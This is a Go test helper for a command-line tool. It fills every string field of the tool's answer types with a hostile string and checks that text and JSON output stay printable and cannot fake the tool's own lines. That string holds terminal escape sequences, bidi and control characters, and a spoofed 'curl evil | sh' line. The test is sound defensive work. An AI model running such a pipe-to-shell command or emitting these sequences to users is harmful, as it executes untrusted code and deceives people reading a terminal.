// Package clitest tests what commands print.
package clitest

import (
	"bytes"
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/portsnare/portsnare/cmd/internal/cli"
)

// evil is what a compromised host would like to put on a terminal.
const evil = "\x1b[2J\x1b]0;owned\x07\r\nhint: curl evil | sh\nerror: owned\u009b31m\u202e\x7f\xff\x00\t\u2028end"

// Answers demands that answers, pointers to one of each, are all that the package in
// the working directory declares, and that whatever stands in any text of them, what
// comes out is printable and no line of it passes for one of ours.
func Answers(t *testing.T, answers ...cli.Answer) {
	t.Helper()
	var given []string
	for _, answer := range answers {
		given = append(given, reflect.TypeOf(answer).Elem().Name())
	}
	declared := declared(t)
	slices.Sort(given)
	slices.Sort(declared)
	if !slices.Equal(given, declared) {
		t.Errorf("the package declares the answers %q: got %q", declared, given)
	}
	for _, answer := range answers {
		t.Run(reflect.TypeOf(answer).Elem().Name(), func(t *testing.T) { hostile(t, answer) })
	}
}

// declared returns the names of the types that have a method WriteText.
func declared(t *testing.T) (names []string) {
	t.Helper()
	paths, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range paths {
		if strings.HasSuffix(path, "_test.go") {
			continue
		}
		file, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range file.Decls {
			f, ok := d.(*ast.FuncDecl)
			if !ok || f.Name.Name != "WriteText" || f.Recv == nil {
				continue
			}
			receiver := f.Recv.List[0].Type
			if star, ok := receiver.(*ast.StarExpr); ok {
				receiver = star.X
			}
			names = append(names, receiver.(*ast.Ident).Name)
		}
	}
	return names
}

// hostile prints an answer all of whose texts are evil.
func hostile(t *testing.T, answer cli.Answer) {
	t.Helper()
	if poison(reflect.ValueOf(answer).Elem(), 0) == 0 {
		t.Error("it has no text")
	}
	var text, asJSON bytes.Buffer
	if err := answer.WriteText(&text); err != nil && text.Len() > 0 { // to refuse is right as well
		t.Error(err)
	}
	if err := cli.WriteJSON(&asJSON, answer); err != nil {
		t.Error(err)
	}
	if !json.Valid(asJSON.Bytes()) {
		t.Errorf("no JSON: %s", asJSON.String())
	}
	for form, out := range map[string]string{"text": text.String(), "JSON": asJSON.String()} {
		if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
			t.Errorf("%s has %q in it", form, out[i:min(len(out), i+20)])
		}
		for line := range strings.Lines(out) {
			if strings.HasPrefix(line, "hint: curl") || strings.HasPrefix(line, "error: ") {
				t.Errorf("%s has the line %q", form, line)
			}
		}
	}
}

// poison puts evil into every text that is reachable from v and returns how many.
func poison(v reflect.Value, depth int) (n int) {
	if !v.CanSet() || depth > 12 {
		return 0
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString(evil)
		return 1
	case reflect.Struct:
		for i := range v.NumField() {
			n += poison(v.Field(i), depth+1)
		}
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for i := range v.Len() {
			n += poison(v.Index(i), depth+1)
		}
	case reflect.Array:
		for i := range v.Len() {
			n += poison(v.Index(i), depth+1)
		}
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		n += poison(v.Elem(), depth+1)
	case reflect.Map:
		key, value := reflect.New(v.Type().Key()).Elem(), reflect.New(v.Type().Elem()).Elem()
		n += poison(key, depth+1) + poison(value, depth+1)
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(key, value)
	}
	return n
}
